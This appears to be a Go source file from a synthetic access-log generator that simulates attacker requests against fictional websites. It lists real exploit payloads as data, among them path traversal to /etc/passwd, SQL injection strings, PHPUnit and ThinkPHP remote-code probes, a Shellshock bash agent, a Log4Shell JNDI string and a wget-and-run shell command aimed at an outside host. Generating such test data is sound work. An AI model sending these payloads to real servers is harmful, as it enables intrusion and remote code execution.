package main

import (
	"net/netip"
	"strings"
)

// shot is one request of an attacker.
type shot struct {
	method, target string
	status         int
}

// calls are what no person ever asks for. Each attacker asks for one of these
// at least, so that any sensible rules catch every one of them.
var calls = []shot{
	{"GET", "/.env", 404},
	{"GET", "/.git/config", 403},
	{"GET", "/wp-config.php.bak", 404},
	{"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404},
}

// packs are what the tools of attackers try, one after the other.
var packs = [][]shot{
	{
		{"GET", "/.env.local", 404}, {"GET", "/.env.production", 404}, {"GET", "/.env.bak", 404}, {"GET", "/api/.env", 404},
		{"GET", "/backend/.env", 404}, {"GET", "/app/.env", 404}, {"GET", "/.aws/credentials", 403}, {"GET", "/config.json", 404},
	},
	{
		{"GET", "/.git/HEAD", 403}, {"GET", "/.svn/entries", 403}, {"GET", "/.DS_Store", 403}, {"GET", "/backup.zip", 404},
		{"GET", "/shop.sql.gz", 404}, {"GET", "/.ssh/id_rsa", 403}, {"GET", "/.vscode/sftp.json", 403},
	},
	{
		{"GET", "/wp-login.php", 404}, {"POST", "/xmlrpc.php", 404}, {"GET", "/wp-config.php~", 404}, {"GET", "/wp-admin/setup-config.php?step=1", 404},
		{"GET", "/wp-content/plugins/hellopress/wp_filemanager.php", 404}, {"GET", "/wp-includes/wlwmanifest.xml", 404}, {"GET", "//blog/wp-includes/wlwmanifest.xml", 404},
	},
	{
		{"POST", "/lib/phpunit/src/Util/PHP/eval-stdin.php", 404}, {"POST", "/vendor/phpunit/src/Util/PHP/eval-stdin.php", 404},
		{"POST", "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", 404}, {"GET", "/phpinfo.php", 404}, {"GET", "/info.php", 404},
		{"GET", "/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=hello", 404},
	},
	{
		{"GET", "/../../../../etc/passwd", 400}, {"POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400}, {"GET", "/static/..%2f..%2f..%2fetc%2fpasswd", 404},
		{"GET", "/download?file=../../../../../../etc/passwd%00", 404}, {"GET", `/..\..\..\windows\win.ini`, 400},
	},
	{
		{"GET", "/product/hand-grinder?id=1%27%20OR%20%271%27=%271", 200}, {"GET", "/search?q=1%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x7171,version())--%20-", 200},
		{"GET", `/search?q=1"+OR+"1"="1`, 200}, {"GET", "/category/cups/?sort=price);WAITFOR%20DELAY%20%270:0:5%27--", 200},
		{"GET", "/search?q=1+AND+EXTRACTVALUE(7321,CONCAT(0x5c,(SELECT+user())))", 200},
	},
	{
		{"GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.200/x.sh;sh+/tmp/x.sh", 404}, {"POST", "/boaform/admin/formLogin", 404}, {"GET", "/HNAP1/", 404},
		{"POST", "/GponForm/diag_Form?images/", 404}, {"GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=busybox", 404},
	},
	{
		{"GET", "/phpmyadmin/index.php", 404}, {"GET", "/actuator/env", 404}, {"GET", "/solr/admin/info/system?wt=json", 404}, {"GET", "/owa/auth/logon.aspx", 404},
		{"GET", "/manager/html", 404}, {"GET", "/server-status", 403}, {"GET", "/console/", 404}, {"GET", "/cgi-bin/luci/;stok=/locale", 404},
	},
}

var attackAgents = []string{
	"", "Mozilla/5.0", "python-requests/2.27.1", "Go-http-client/1.1", "Mozilla/5.0 zgrab/0.x", "l9explore/1.2.2", "Fuzz Faster U Fool v2.1.0-dev",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
	`() { :; }; echo; /bin/bash -c "cat /etc/hosts"`,
	"${jndi:ldap://203.0.113.201:1389/a}",
}

// intruder is one attacking address.
type intruder struct {
	w     *world
	r     random
	addr  netip.Addr
	agent string
	at    int64
}

func addAttackers(w *world) {
	r := newRandom(w.seed, "attackers")
	targets := []*site{w.shop, w.www, w.docs, w.gallery, w.api, w.blog}
	for i := range 118 {
		a := &intruder{w: w, r: r, addr: w.book.v4(), agent: pick(r, attackAgents)}
		if i%9 == 0 {
			a.addr = w.book.device(w.book.v6net())
		}
		for range r.between(1, 3) {
			s := targets[r.weighted([]int{58, 16, 9, 6, 8, 3})]
			a.at = s.log.zone.utc(firstDay + int64(r.IntN(days*secsInDay-600)))
			a.attack(s)
		}
	}
	addGuesser(w, r)
	addLongInjection(w, r)
}

// attack is one burst on a site: a hello to a port that speaks no TLS, the
// call, then some packs.
func (a *intruder) attack(s *site) {
	if a.r.chance(30) {
		a.send(s, shot{"", hello(a.r), 400})
	}
	a.send(s, pick(a.r, calls))
	for range a.r.between(0, 3) {
		for _, t := range pick(a.r, packs) {
			if a.r.chance(85) {
				a.send(s, t)
			}
		}
	}
}

func (a *intruder) send(s *site, t shot) {
	rec := record{at: a.at, site: s, addr: a.addr, method: t.method, target: t.target, proto: "HTTP/1.1", status: t.status,
		bytes: answer(t.target, t.status), agent: a.agent, kind: attacker}
	switch {
	case t.method == "":
		rec.agent = ""
	case s.log.format == vhostCombined && a.r.chance(20):
		rec.port, rec.status, rec.bytes = 80, 301, 320
	}
	a.at = a.w.add(rec) + int64(a.r.IntN(2))
}

// addGuesser makes someone guess passwords on the blog, where the editors log
// in as well.
func addGuesser(w *world, r random) {
	a := &intruder{w: w, r: r, addr: w.book.v4(), agent: attackAgents[8], at: utc.moment(r, 7)}
	a.send(w.blog, shot{"GET", "/wp-config.php.bak", 403})
	for range 18 {
		a.send(w.blog, shot{"POST", "/wp-login.php", 200})
		a.at += int64(r.between(1, 4))
	}
	a.send(w.blog, shot{"POST", "/xmlrpc.php", 405})
}

// addLongInjection makes a request line of more than 4,096 bytes.
func addLongInjection(w *world, r random) {
	a := &intruder{w: w, r: r, addr: w.book.v4(), agent: attackAgents[7], at: berlin.moment(r, 8)}
	a.send(w.shop, shot{"GET", "/.git/config", 403})
	a.send(w.shop, shot{"GET", "/search?q=-1%20UNION%20SELECT%20CHAR(" + strings.Repeat("113,", 1_400) + "113)", 200})
}

// hello begins a TLS handshake, with random bytes.
func hello(r random) string {
	return "\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03" + noiseBytes(r, r.between(12, 32))
}

// noiseBytes are random bytes without those that end a line.
func noiseBytes(r random, n int) string {
	b := make([]byte, n)
	for i := range b {
		for b[i] = byte(r.IntN(256)); b[i] == '\n' || b[i] == '\r' || b[i] == 0; {
			b[i] = byte(r.IntN(256))
		}
	}
	return string(b)
}
